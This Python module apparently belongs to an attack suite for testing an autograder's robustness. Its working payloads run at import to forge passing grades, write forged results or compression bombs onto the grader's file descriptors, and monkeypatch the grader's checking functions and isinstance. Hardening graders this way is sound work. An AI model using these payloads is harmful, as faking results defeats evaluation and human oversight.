"""Forging the result channel between the grader's worker and the trusted side."""

from __future__ import annotations

from attackzoo import Attack, prepend

TASKS = [
    "lab5.gaussian",
    "lab5.masking",
    "lab5.salt_and_pepper",
    "lab5.autoencoder",
    "lab5.denoising_provider",
    "lab5.pretrain_stack",
    "lab5.pretrained_classifier",
    "lab5.tied_autoencoder",
]

FORGE = (
    "def _zoo_blobs():\n"
    "    import io, json, pickle, zlib\n"
    f"    tasks = {TASKS!r}\n"
    "    fake = {t: {'passed': True, 'points': 100, 'ok': True, 'outcome': 'pass'} for t in tasks}\n"
    "    blobs = [json.dumps(fake).encode() + b'\\n', pickle.dumps(fake), zlib.compress(pickle.dumps(fake))]\n"
    "    try:\n"
    "        import numpy as np\n"
    "        buffer = io.BytesIO()\n"
    "        np.savez_compressed(buffer, **{t: np.ones(3) for t in tasks})\n"
    "        blobs.append(buffer.getvalue())\n"
    "    except Exception:\n"
    "        pass\n"
    "    return blobs\n"
    "def _zoo_forge(fds):\n"
    "    import os\n"
    "    for fd in fds:\n"
    "        for blob in _zoo_blobs():\n"
    "            try:\n"
    "                os.write(fd, blob)\n"
    "            except Exception:\n"
    "                pass\n"
    "def _zoo_proc_fds():\n"
    "    import os\n"
    "    fds = []\n"
    "    for pid in ('self', str(os.getppid()), '1'):\n"
    "        try:\n"
    "            names = os.listdir(f'/proc/{pid}/fd')\n"
    "        except Exception:\n"
    "            continue\n"
    "        for name in names:\n"
    "            try:\n"
    "                fds.append(os.open(f'/proc/{pid}/fd/{name}', os.O_WRONLY | os.O_NONBLOCK))\n"
    "            except Exception:\n"
    "                pass\n"
    "    return fds\n"
)


def _proc_fds(folder, ctx):
    prepend(folder, FORGE + "_zoo_forge(list(range(0, 64)) + _zoo_proc_fds())\n")


def _forge_and_exit(folder, ctx):
    prepend(folder, FORGE + "_zoo_forge(list(range(0, 64)) + _zoo_proc_fds())\nimport os\nos._exit(0)\n")


def _compressed_bomb(folder, ctx):
    prepend(
        folder,
        (
            "def _zoo_bomb():\n"
            "    import os, zlib, gzip\n"
            "    bomb = zlib.compress(b'\\0' * (256 * 1024 * 1024), 9)\n"
            "    gz = gzip.compress(b'\\0' * (256 * 1024 * 1024), 9)\n"
            "    for fd in [1, 2] + list(range(3, 64)):\n"
            "        for blob in (bomb, gz):\n"
            "            try:\n"
            "                os.write(fd, blob)\n"
            "            except Exception:\n"
            "                pass\n"
            "_zoo_bomb()\n"
        ),
    )


def _patch_the_worker(folder, ctx):
    prepend(
        folder,
        (
            "def _zoo_patch():\n"
            "    import builtins, os, sys\n"
            "    for name, module in list(sys.modules.items()):\n"
            "        if name.startswith(('autograder', 'mlplab.course.checks')):\n"
            "            for attr in dir(module):\n"
            "                if callable(getattr(module, attr, None)) and attr.startswith(('judge', 'check', 'compare', 'conform')):\n"
            "                    try:\n"
            "                        setattr(module, attr, lambda *a, **k: True)\n"
            "                    except Exception:\n"
            "                        pass\n"
            "    real_write = os.write\n"
            "    os.write = lambda fd, data: real_write(fd, data.replace(b'False', b'True'))\n"
            "    builtins.isinstance = lambda *a: True\n"
            "_zoo_patch()\n"
        ),
    )


ATTACKS = [
    Attack(
        "forge_result_channel",
        "at import, forged outcomes (json, pickle, zlib, npz) written to "
        "fds 0-63 and every /proc/{self,ppid,1}/fd entry",
        _proc_fds,
    ),
    Attack("forge_and_exit", "the same forgery, then os._exit(0) at import", _forge_and_exit),
    Attack(
        "compressed_bomb_on_channel",
        "256 MB zlib and gzip bombs written to stdout, stderr and every descriptor",
        _compressed_bomb,
    ),
    Attack(
        "patch_the_worker",
        "at import, replace judging functions of loaded autograder/mlplab.course.checks "
        "modules, os.write and isinstance",
        _patch_the_worker,
    ),
]
